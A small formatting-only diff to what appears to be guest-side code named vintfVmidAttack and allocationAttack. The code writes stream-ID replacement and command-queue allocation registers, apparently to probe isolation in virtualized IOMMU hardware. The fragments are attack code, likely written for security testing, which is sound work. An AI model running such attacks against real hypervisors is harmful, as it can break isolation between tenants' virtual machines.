@@ -67,7 +67,10 @@ export function vintfVmidAttack(): void {
 
 function writePair(pair: u32, virtSid: u32, physSid: u32): void {
   write32(vintfGpa(VINTF_SID_REPLACE) + pair * 4, physSid);
-  write32(vintfGpa(VINTF_SID_MATCH) + pair * 4, place(SID_MATCH_VIRT_SID, virtSid) | place(SID_MATCH_ENABLE, 1));
+  write32(
+    vintfGpa(VINTF_SID_MATCH) + pair * 4,
+    place(SID_MATCH_VIRT_SID, virtSid) | place(SID_MATCH_ENABLE, 1),
+  );
 }
 
 function clearPair(pair: u32): void {
@@ -113,7 +116,12 @@ export function allocationAttack(): void {
     const before = read32(gpa);
     for (let vintf: u32 = 0; vintf < VINTFS; vintf++) {
       for (let lvcmdq: u32 = 0; lvcmdq < LVCMDQS; lvcmdq++) {
-        write32(gpa, place(CMDQ_ALLOC_VINTF, vintf) | place(CMDQ_ALLOC_LVCMDQ, lvcmdq) | place(CMDQ_ALLOC_ALLOCATED, 1));
+        write32(
+          gpa,
+          place(CMDQ_ALLOC_VINTF, vintf) |
+            place(CMDQ_ALLOC_LVCMDQ, lvcmdq) |
+            place(CMDQ_ALLOC_ALLOCATED, 1),
+        );
       }
       tried++;
       if (invalidateOwn()) completed++;
